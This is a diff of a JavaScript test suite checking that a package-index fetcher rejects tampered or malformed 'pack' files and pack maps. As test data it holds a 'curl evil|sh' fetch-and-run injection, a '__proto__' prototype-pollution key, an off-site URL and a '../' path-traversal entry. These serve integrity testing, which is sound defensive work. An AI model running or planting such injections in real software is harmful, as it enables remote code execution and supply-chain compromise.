@@ -65,11 +65,11 @@ function recordingReader({ change = (path, bytes) => bytes } = {}) {
 }
 
 const withoutPacks = (path, bytes) => {
-  if (path !== "index.json") return bytes;
-  const root = JSON.parse(new TextDecoder().decode(bytes));
-  delete root.packs;
-  return new TextEncoder().encode(JSON.stringify(root));
+  if (path === "packs.json") throw new PrereqError("cannot load packs.json (404 Not Found)"); // as an older build
+  return bytes;
 };
+
+const STORY_PACKS = JSON.parse(readFileSync(join(CASES, "indexes", "story", "api", "v1", "packs.json"), "utf8"));
 
 async function ensured(reader, names) {
   const index = await Index.load("BASE", reader.read);
@@ -79,25 +79,45 @@ async function ensured(reader, names) {
 }
 
 /* The browser's own (the CLI reads item files as it needs them, so no shared case): a require chain
- * three items deep (mnist-data -> base-tools -> apt-proxy) is fetched in two rounds, not
- * three: an item file's closures name the rest at once (a 150-item closure was 19 rounds). */
+ * three items deep (mnist-data -> base-tools -> apt-proxy) is fetched in two rounds of item files
+ * (after the pack map, asked once), not three: an item file's closures name the rest at once (a
+ * 150-item closure was 19 rounds). */
 test("index fetching: without packs, ensure asks for a closure's files in two rounds: the item's, then the rest", async () => {
   const { asked } = await ensured(recordingReader({ change: withoutPacks }), ["mnist-data"]);
-  assert.deepEqual(asked, ["0 prerequisites/mnist-data.json", "1 prerequisites/apt-proxy.json",
-    "1 prerequisites/base-tools.json", "1 prerequisites/nfs-storage-1.json"]);
+  assert.deepEqual(asked, ["0 packs.json", "1 prerequisites/mnist-data.json", "2 prerequisites/apt-proxy.json",
+    "2 prerequisites/base-tools.json", "2 prerequisites/nfs-storage-1.json"]);
 });
 
-test("index fetching: with packs, a closure comes in one request per pack, each pack read once", async () => {
+test("index fetching: with packs, a closure comes in one request per pack after the pack map, each read once", async () => {
   const reader = recordingReader();
   const { index, asked } = await ensured(reader, ["mnist-data"]);
-  const [pack] = index.root.packs;
-  assert.deepEqual(asked, [`0 ${pack}`]);
+  const [pack] = STORY_PACKS.packs;
+  assert.deepEqual(asked, ["0 packs.json", `1 ${pack}`]);
   const plain = await ensured(recordingReader({ change: withoutPacks }), ["mnist-data"]);
   for (const name of ["mnist-data", "base-tools", "apt-proxy", "nfs-storage-1"]) {
     assert.deepEqual(index.document(name), plain.index.document(name), name);
   }
   await index.ensure(["enable-ssh", "miniconda"]);
-  assert.deepEqual(reader.asked.filter(([, path]) => path === pack).length, 1);
+  assert.deepEqual(reader.asked.filter(([, path]) => path === pack || path === "packs.json").length, 2);
+});
+
+/* The pack map is not vouched for by the root: a wrong one costs requests, never an unchecked byte. */
+test("index fetching: a pack map that names the wrong pack, or is no pack map, leaves the item files", async () => {
+  const encode = (value) => new TextEncoder().encode(JSON.stringify(value));
+  const maps = [
+    { ...STORY_PACKS, packs: ["packs/0000000000000000.ndjson"] },
+    { ...STORY_PACKS, items: { ["__proto__"]: 0, "mnist-data": 7 } },
+    { format: "prereq-packs/9", packs: STORY_PACKS.packs, items: STORY_PACKS.items },
+    { ...STORY_PACKS, packs: ["https://elsewhere.example/packs/0000000000000000.ndjson"] }, // it names no other file
+    { ...STORY_PACKS, packs: ["../../v1/prerequisites/mnist-data.json"] },
+    "not a map",
+  ];
+  for (const map of maps) {
+    const { index, asked } = await ensured(recordingReader({ change: (path, bytes) => (path === "packs.json" ? encode(map) : bytes) }), ["mnist-data"]);
+    assert.ok(asked.some((line) => line.endsWith("prerequisites/mnist-data.json")), asked.join(", "));
+    assert.ok(asked.every((line) => /^\d+ (packs\.json|packs\/[0-9a-f]{16}\.ndjson|prerequisites\/[a-z0-9-]+\.json)$/.test(line)), asked.join(", "));
+    assert.equal(index.document("mnist-data").name, "mnist-data");
+  }
 });
 
 /* A pack is a way to fetch, not a thing to trust: a line whose sha256 the root does not give is not used. */
@@ -106,7 +126,7 @@ test("index fetching: a changed line of a pack is passed over for the item's own
   const tamperedPack = (path, bytes) => (path.startsWith("packs/") ? swap(bytes, "apt-get", "curl evil|sh; apt-get") : bytes);
   const reader = recordingReader({ change: tamperedPack });
   const { index, asked } = await ensured(reader, ["mnist-data"]);
-  assert.ok(asked.includes("1 prerequisites/base-tools.json"), asked.join(", "));
+  assert.ok(asked.some((line) => line.endsWith(" prerequisites/base-tools.json")), asked.join(", "));
   assert.ok(!JSON.stringify(index.document("base-tools")).includes("evil"));
 
   const both = (path, bytes) => (path === "index.json" ? bytes : swap(bytes, "apt-get", "curl evil|sh; apt-get"));
@@ -121,6 +141,7 @@ test("index fetching: a pack that cannot be read leaves the item files to be rea
   };
   const { index, asked } = await ensured(recordingReader({ change: missing }), ["mnist-data"]);
   const files = asked.map((line) => line.split(" ")[1]).filter((path) => path.startsWith("prerequisites/"));
+  assert.ok(asked.some((line) => line.includes(STORY_PACKS.packs[0])), "the pack was asked for");
   assert.deepEqual(files.sort(), ["apt-proxy", "base-tools", "mnist-data", "nfs-storage-1"].map((n) => `prerequisites/${n}.json`));
   assert.equal(index.document("apt-proxy").name, "apt-proxy");
 });
